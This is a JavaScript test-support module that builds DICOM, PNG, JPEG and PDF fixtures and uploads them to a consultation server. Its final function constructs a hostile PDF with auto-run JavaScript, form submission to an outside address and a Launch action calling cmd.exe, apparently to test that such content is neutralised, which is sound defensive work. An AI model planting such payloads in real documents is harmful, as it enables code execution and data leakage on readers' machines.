// SPDX-License-Identifier: Apache-2.0
// Files as people bring them, good and bad, made here or taken from tests/data/materials, and their way to the server
// without a page. DICOM is explicit little endian unless said otherwise (PS3.5, PS3.10).
import { execFileSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { createReadStream, readFileSync, statSync } from 'node:fs';
import https from 'node:https';
import path from 'node:path';
import { deflateRawSync, deflateSync } from 'node:zlib';
import { ROOT, until } from '../support.mjs';

const FILES = path.join(ROOT, 'tests/data/materials');
export const file = (name) => readFileSync(path.join(FILES, name));

// ---- to the server ----

function send(world, wire, method, where, headers, body) {
    return new Promise((resolve, reject) => {
        const request = https.request(new URL(where, world.https), { method, rejectUnauthorized: false, headers: { authorization: `Bearer ${wire.token}`, 'tus-resumable': '1.0.0', ...headers } }, (answer) => {
            let text = '';
            answer.on('data', (piece) => (text += piece));
            answer.on('end', () => resolve({ status: answer.statusCode, headers: answer.headers, text }));
        });
        request.on('error', reject);
        if (body?.pipe) body.pipe(request);
        else request.end(body);
    });
}

/** `content`: bytes, or the path of a large file. Resolves with {status, id?, text}. */
export async function upload(world, wire, consultation, type, content, filename, more = {}) {
    const bytes = typeof content === 'string' ? statSync(content).size : content.length;
    const hash = createHash('sha256');
    if (typeof content === 'string') for await (const piece of createReadStream(content)) hash.update(piece);
    else hash.update(content);
    const said = { type, consultation, sha256: hash.digest('hex'), filename, ...more };
    const metadata = Object.entries(said).map(([key, value]) => `${key} ${Buffer.from(value).toString('base64')}`).join(',');
    const made = await send(world, wire, 'POST', '/materials/', { 'upload-length': String(bytes), 'upload-metadata': metadata, 'content-length': '0' });
    if (made.status !== 201) return { status: made.status, text: made.text };
    const body = typeof content === 'string' ? createReadStream(content) : content;
    const sent = await send(world, wire, 'PATCH', made.headers.location, { 'content-type': 'application/offset+octet-stream', 'upload-offset': '0', 'content-length': String(bytes) }, body);
    const id = sent.headers['shanqiao-material'];
    return { status: sent.status, text: sent.text, id };
}

/** A case that `panel` is asked for, with files {name, type, content, more?}; ids of the materials by name. */
export async function caseWith(world, village, request, files) {
    const { consultation } = await village.call('consultation.submit', request);
    const ids = {};
    for (const { name, type, content, more } of files) {
        const { id, status, text } = await upload(world, village, consultation.id, type, content, name, more);
        if (!id) throw new Error(`${name}: ${status} ${text}`);
        ids[name] = id;
    }
    await allRead(village, consultation.id);
    return { id: consultation.id, ids };
}

/** Until the header of each was read, or could not be; but of those in `but`. */
export function allRead(wire, consultationId, but = []) {
    return until(async () => (await wire.call('material.list', { consultationId })).materials.every((m) => m.status !== 'pending' || but.includes(m.name)), 'the headers were read');
}

// ---- DICOM ----

const LONG = new Set(['OB', 'OW', 'SQ', 'UN']);

function element(group, number, vr, value) {
    let v = typeof value === 'number' ? Buffer.alloc(2) : Buffer.from(value);
    if (typeof value === 'number') v.writeUInt16LE(value);
    if (v.length % 2) v = Buffer.concat([v, Buffer.from(vr === 'UI' || LONG.has(vr) ? '\0' : ' ')]);
    const head = Buffer.alloc(LONG.has(vr) ? 12 : 8);
    head.writeUInt16LE(group, 0);
    head.writeUInt16LE(number, 2);
    head.write(vr, 4, 'latin1');
    if (LONG.has(vr)) head.writeUInt32LE(v.length, 8);
    else head.writeUInt16LE(v.length, 6);
    return Buffer.concat([head, v]);
}

export const SYNTAX = { native: '1.2.840.10008.1.2.1', deflated: '1.2.840.10008.1.2.1.99', jpeg: '1.2.840.10008.1.2.4.50', jpegls: '1.2.840.10008.1.2.4.80', jpeg2000: '1.2.840.10008.1.2.4.90', rle: '1.2.840.10008.1.2.5' };

function fragments(parts) {
    const item = (bytes) => { const head = Buffer.from([0xfe, 0xff, 0x00, 0xe0, 0, 0, 0, 0]); head.writeUInt32LE(bytes.length + (bytes.length % 2), 4); return Buffer.concat([head, bytes, Buffer.alloc(bytes.length % 2)]); };
    const head = Buffer.from([0xe0, 0x7f, 0x10, 0x00, 0x4f, 0x42, 0, 0, 0xff, 0xff, 0xff, 0xff]);
    return Buffer.concat([head, item(Buffer.alloc(0)), ...parts.map(item), Buffer.from([0xfe, 0xff, 0xdd, 0xe0, 0, 0, 0, 0])]);
}

/**
 * A picture of one or several frames. frames: Buffers, native samples or one coded stream each.
 * spacing: mm between rows and columns, as the file writes it.
 */
export function dicom({ rows, columns, frames, bits = 8, syntax = SYNTAX.native, spacing = '0.5\\0.5', window, frameMs, modality = 'DX' }) {
    const allocated = bits > 8 ? 16 : 8;
    const set = [
        element(8, 0x16, 'UI', '1.2.840.10008.5.1.4.1.1.7'), element(8, 0x18, 'UI', '1.2.826.0.1.3680043.10.1'), element(8, 0x60, 'CS', modality),
        ...(frameMs ? [element(0x18, 0x1063, 'DS', String(frameMs))] : []),
        element(0x28, 2, 'US', 1), element(0x28, 4, 'CS', 'MONOCHROME2'), ...(frames.length > 1 ? [element(0x28, 8, 'IS', String(frames.length))] : []),
        element(0x28, 0x10, 'US', rows), element(0x28, 0x11, 'US', columns), ...(spacing ? [element(0x28, 0x30, 'DS', spacing)] : []),
        element(0x28, 0x100, 'US', allocated), element(0x28, 0x101, 'US', bits), element(0x28, 0x102, 'US', bits - 1), element(0x28, 0x103, 'US', 0),
        ...(window ? [element(0x28, 0x1050, 'DS', String(window[0])), element(0x28, 0x1051, 'DS', String(window[1]))] : []),
        syntax === SYNTAX.native || syntax === SYNTAX.deflated ? element(0x7fe0, 0x10, allocated > 8 ? 'OW' : 'OB', Buffer.concat(frames)) : fragments(frames),
    ];
    return dicomFile(syntax, Buffer.concat(set));
}

export function dicomFile(syntax, set) {
    const meta = Buffer.concat([element(2, 2, 'UI', '1.2.840.10008.5.1.4.1.1.7'), element(2, 3, 'UI', '1.2.826.0.1.3680043.10.1'), element(2, 0x10, 'UI', syntax)]);
    const length = Buffer.alloc(4);
    length.writeUInt32LE(meta.length);
    const groupLength = Buffer.concat([Buffer.from([2, 0, 0, 0]), Buffer.from('UL'), Buffer.from([4, 0]), length]);
    return Buffer.concat([Buffer.alloc(128), Buffer.from('DICM'), groupLength, meta, syntax === SYNTAX.deflated ? deflateRawSync(set) : set]);
}

/** The samples of the chest X-ray, 8 bit, 512 by 512: what codecs are held against. */
export function chest() {
    const bytes = file('chest_dx_nih_512.dcm');
    return bytes.subarray(bytes.length - 512 * 512);
}

/** 16-bit samples of 0..4095 out of 8-bit ones, enlarged by whole numbers. */
export function enlarged(samples, side, times) {
    const out = new Uint16Array(side * times * side * times);
    for (let y = 0, at = 0; y < side * times; y++)
        for (let x = 0; x < side * times; x++, at++) out[at] = samples[((y / times) | 0) * side + ((x / times) | 0)] * 16 + (x % times) * 3 + (y % times);
    return Buffer.from(out.buffer);
}

/** Grey samples as one coded picture of ffmpeg. */
function coded(samples, side, extra) {
    return execFileSync('ffmpeg', ['-v', 'error', '-f', 'rawvideo', '-pix_fmt', 'gray', '-s', `${side}x${side}`, '-i', 'pipe:0', ...extra, 'pipe:1'], { input: samples, maxBuffer: 1 << 26 });
}
export const CODED = {
    jpeg2000: (samples, side) => coded(samples, side, ['-c:v', 'jpeg2000', '-format', 'j2k', '-pred', '1', '-f', 'image2pipe']),
    jpegls: (samples, side) => coded(samples, side, ['-c:v', 'jpegls', '-f', 'image2pipe']),
    jpeg: (samples, side) => coded(samples, side, ['-c:v', 'mjpeg', '-pix_fmt', 'gray', '-q:v', '2', '-f', 'image2pipe']),
    rle: (samples) => rle(samples),
};

/** PS3.5 annex G, one segment: runs of at most 128, everything else as it is. */
function rle(samples) {
    const out = [];
    for (let at = 0; at < samples.length;) {
        let run = 1;
        while (run < 128 && at + run < samples.length && samples[at + run] === samples[at]) run++;
        if (run >= 3) out.push(257 - run, samples[at]);
        else {
            run = Math.min(64, samples.length - at);
            out.push(run - 1, ...samples.subarray(at, at + run));
        }
        at += run;
    }
    const head = Buffer.alloc(64);
    head.writeUInt32LE(1, 0);
    head.writeUInt32LE(64, 4);
    return Buffer.concat([head, Buffer.from(out)]);
}

// ---- PNG, JPEG, PDF ----

const CRC = Uint32Array.from({ length: 256 }, (_, n) => { for (let k = 0; k < 8; k++) n = n & 1 ? (n >>> 1) ^ 0xedb88320 : n >>> 1; return n >>> 0; });

function crc32(bytes) { // Node 18 has none
    let c = 0xffffffff;
    for (const b of bytes) c = CRC[(c ^ b) & 0xff] ^ (c >>> 8);
    return (c ^ 0xffffffff) >>> 0;
}

function chunk(type, body) {
    const out = Buffer.alloc(12 + body.length);
    out.writeUInt32BE(body.length, 0);
    out.write(type, 4, 'latin1');
    body.copy(out, 8);
    out.writeUInt32BE(crc32(out.subarray(4, 8 + body.length)), 8 + body.length);
    return out;
}

/** One bit a pixel. lines: what is really there, all white; left out: all of it. */
export function png(width, height, lines = height) {
    const header = Buffer.from([0, 0, 0, 0, 0, 0, 0, 0, 1, 0, 0, 0, 0]);
    header.writeUInt32BE(width, 0);
    header.writeUInt32BE(height, 4);
    const row = Buffer.alloc(1 + Math.ceil(width / 8), 0xff);
    row[0] = 0;
    const body = Buffer.alloc(row.length * lines);
    for (let y = 0; y < lines; y++) row.copy(body, y * row.length);
    return Buffer.concat([Buffer.from('\x89PNG\r\n\x1a\n', 'latin1'), chunk('IHDR', header), chunk('IDAT', deflateSync(body)), chunk('IEND', Buffer.alloc(0))]);
}

/** A JPEG's start with the size said to be that, and nothing after it. */
export function jpegHeader(width, height) {
    const out = Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0, 16, 0x4a, 0x46, 0x49, 0x46, 0, 1, 1, 0, 0, 1, 0, 1, 0, 0, 0xff, 0xc0, 0, 11, 8, 0, 0, 0, 0, 1, 1, 0x11, 0, 0xff, 0xda, 0, 8, 1, 1, 0, 0, 63, 0, 0xff, 0xd9]);
    out.writeUInt16BE(height, 25);
    out.writeUInt16BE(width, 27);
    return out;
}

/** Objects 1, 2, ... as text; object 1 is the catalogue. */
function pdfOf(objects) {
    let out = '%PDF-1.4\n';
    const places = objects.map((text, i) => { const at = out.length; out += `${i + 1} 0 obj\n${text}\nendobj\n`; return at; });
    const table = out.length;
    out += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${places.map((at) => `${String(at).padStart(10, '0')} 00000 n \n`).join('')}`;
    return Buffer.from(`${out}trailer<</Size ${objects.length + 1}/Root 1 0 R>>\nstartxref\n${table}\n%%EOF`, 'latin1');
}

const stream = (text) => `<</Length ${text.length}>>stream\n${text}\nendstream`;

/** Two pages: a Chinese line without its font, an English one, a black bar of 200 by 60 points; the second is empty but for words. */
export function pdf() {
    const chinese = Buffer.from('检验报告 心肌肌钙蛋白', 'utf16le').swap16().toString('hex');
    return pdfOf(['<</Type/Catalog/Pages 2 0 R>>', '<</Type/Pages/Kids[3 0 R 8 0 R]/Count 2>>',
        '<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R/Resources<</Font<</F1 5 0 R/F2 6 0 R>>>>>>',
        stream(`BT /F1 28 Tf 60 740 Td <${chinese}> Tj ET BT /F2 20 Tf 60 690 Td (Troponin I 0.02 ug/L, reference below 0.04) Tj ET 60 600 200 60 re f`),
        '<</Type/Font/Subtype/Type0/BaseFont/SimSun/Encoding/UniGB-UCS2-H/DescendantFonts[7 0 R]>>', '<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>',
        '<</Type/Font/Subtype/CIDFontType0/BaseFont/SimSun/CIDSystemInfo<</Registry(Adobe)/Ordering(GB1)/Supplement 2>>/FontDescriptor 10 0 R>>',
        '<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 9 0 R/Resources<</Font<</F2 6 0 R>>>>>>', stream('BT /F2 24 Tf 60 740 Td (Second page) Tj ET'),
        '<</Type/FontDescriptor/FontName/SimSun/Flags 4/FontBBox[0 -200 1000 900]/ItalicAngle 0/Ascent 800/Descent -200/CapHeight 700/StemV 80>>']);
}

/** Everything a PDF may try at being opened: scripts, a program, an address, a form that is sent. */
export function activePdf(away) {
    const script = `app.alert('run'); this.submitForm('${away}'); this.getURL('${away}');`;
    return pdfOf([`<</Type/Catalog/Pages 2 0 R/OpenAction 4 0 R/Names<</JavaScript<</Names[(a) 4 0 R]>>>>/AA<</WC 5 0 R>>/AcroForm<</Fields[8 0 R]>>>>`, '<</Type/Pages/Kids[3 0 R]/Count 1>>',
        '<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 7 0 R/Resources<<>>/AA<</O 5 0 R>>/Annots[6 0 R 8 0 R]>>',
        `<</Type/Action/S/JavaScript/JS(${script.replace(/[()\\]/g, '\\$&')})>>`, '<</Type/Action/S/Launch/F(cmd.exe)/Win<</F(cmd.exe)/P(/c calc)>>>>',
        `<</Type/Annot/Subtype/Link/Rect[0 0 595 842]/Border[0 0 0]/A<</S/URI/URI(${away})>>>>`, stream('60 600 200 60 re f'),
        `<</Type/Annot/Subtype/Widget/FT/Tx/T(f)/Rect[60 400 300 440]/AA<</F 4 0 R/K 4 0 R>>/V(x)>>`]);
}
